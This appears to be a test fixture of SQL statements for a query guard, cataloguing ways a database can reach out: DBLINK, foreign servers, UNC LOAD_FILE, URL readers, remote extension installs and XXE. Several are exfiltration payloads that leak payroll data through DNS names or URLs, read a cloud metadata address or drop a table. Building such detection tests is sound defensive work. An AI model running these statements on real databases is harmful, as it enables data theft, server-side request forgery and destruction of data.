-- Reaching out of the database: connections of the server's own, DNS look-ups, files by URL (sqlmap --dns-domain, PayloadsAllTheThings
-- "MySQL out of band", Vanna SSRF CVE-2026-4231, Arc CVE-2026-47735 through httpfs).

-- [all] unknown: DBLINK
SELECT DBLINK('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] unknown: DBLINK as a table
SELECT * FROM DBLINK('host=127.0.0.1 port=__PORT__', 'SELECT secret FROM vault.secrets') AS t(secret TEXT)

-- [all] unknown: DBLINK_CONNECT
SELECT DBLINK_CONNECT('host=127.0.0.1 port=__PORT__ password=' || (SELECT MAX(memo) FROM payroll))

-- [all] unknown: DBLINK_EXEC
SELECT DBLINK_EXEC('dbname=postgres', 'DROP TABLE customers')

-- [all] unknown: DBLINK_SEND_QUERY
SELECT DBLINK_SEND_QUERY('c', 'SELECT 1')

-- [all] unknown: a foreign server
CREATE SERVER stolen FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '__PORT__')

-- [all] unknown: a user mapping
CREATE USER MAPPING FOR CURRENT_USER SERVER stolen OPTIONS (user 'x')

-- [all] unknown: a subscription to another server
CREATE SUBSCRIPTION stolen CONNECTION 'host=127.0.0.1 port=__PORT__' PUBLICATION p

-- [all] unknown: an extension for it
CREATE EXTENSION dblink

-- [all] unknown: a federated table
CREATE TABLE stolen (x INT) ENGINE=FEDERATED CONNECTION='mysql://x@127.0.0.1:__PORT__/d/t'

-- [all] unknown: a replica of an attacker
CHANGE MASTER TO MASTER_HOST = '127.0.0.1', MASTER_PORT = __PORT__

-- [all] unknown: LOAD_FILE of a UNC path
SELECT LOAD_FILE('\\\\127.0.0.1\\share\\x') AS s

-- [all] unknown: LOAD_FILE of a UNC path with data in the name
SELECT LOAD_FILE(CONCAT('\\\\', (SELECT MAX(memo) FROM payroll), '.attacker.test\\x')) AS s

-- [all] unknown: a CSV file by URL
SELECT * FROM 'http://127.0.0.1:__PORT__/x.csv'

-- [all] unknown: READ_CSV by URL
SELECT * FROM READ_CSV('http://127.0.0.1:__PORT__/x.csv')

-- [all] unknown: READ_TEXT of the metadata address
SELECT * FROM READ_TEXT('http://127.0.0.1:__PORT__/latest/meta-data/')

-- [all] unknown: READ_PARQUET by S3
SELECT * FROM READ_PARQUET('s3://stolen/x.parquet')

-- [all] unknown: READ_JSON with data in the address
SELECT * FROM READ_JSON('http://127.0.0.1:__PORT__/' || (SELECT MAX(memo) FROM payroll))

-- [all] unknown: an extension is installed
INSTALL httpfs

-- [all] unknown: an extension of the community is installed
INSTALL shellfs FROM community

-- [all] unknown: an extension is installed from an address
INSTALL 'stolen' FROM 'http://127.0.0.1:__PORT__'

-- [all] unknown: an extension is loaded
LOAD httpfs

-- [all] unknown: an extension is loaded from a file
LOAD '__FOLDER__/stolen.duckdb_extension'

-- [all] unknown: a database is attached by address
ATTACH 'host=127.0.0.1 port=__PORT__' AS stolen (TYPE postgres)

-- [all] unknown: a database is attached over HTTP
ATTACH 'http://127.0.0.1:__PORT__/x.duckdb' AS stolen

-- [all] unknown: a database is attached by a URI of SQLite
ATTACH 'file:__VAULTFILE__?mode=rw' AS stolen

-- [all] unknown: POSTGRES_QUERY
SELECT * FROM POSTGRES_QUERY('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] unknown: MYSQL_QUERY
SELECT * FROM MYSQL_QUERY('host=127.0.0.1 port=__PORT__', 'SELECT 1')

-- [all] unknown: POSTGRES_SCAN
SELECT * FROM POSTGRES_SCAN('host=127.0.0.1 port=__PORT__', 'public', 't')

-- [all] unknown: HTTP_GET of a community extension
SELECT HTTP_GET('http://127.0.0.1:__PORT__/') AS s

-- [all] unknown: HTTP of an extension of PostgreSQL
SELECT content FROM HTTP_GET('http://127.0.0.1:__PORT__/')

-- [all] unknown: UTL_HTTP of Oracle
SELECT UTL_HTTP.REQUEST('http://127.0.0.1:__PORT__/') FROM dual

-- [all] unknown: an XML entity by address
SELECT EXTRACTVALUE(XMLTYPE('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:__PORT__/">%x;]>'), '/l') FROM dual

-- [all] unknown: an XML entity of a file
SELECT XMLPARSE(DOCUMENT '<!DOCTYPE r [<!ENTITY x SYSTEM "file://__FILE__">]><r>&x;</r>') AS s

-- [all] unknown: the address of the server
SELECT INET_SERVER_ADDR() AS s

-- [all] unknown: the address of the client
SELECT INET_CLIENT_ADDR() AS s

-- [all] unknown: NOTIFY
NOTIFY stolen, 'x'

-- [all] unknown: PG_NOTIFY
SELECT PG_NOTIFY('stolen', (SELECT MAX(memo) FROM payroll))

-- [all] unknown: LISTEN
LISTEN stolen

-- [all] unknown: the user interface of DuckDB is started
CALL START_UI()
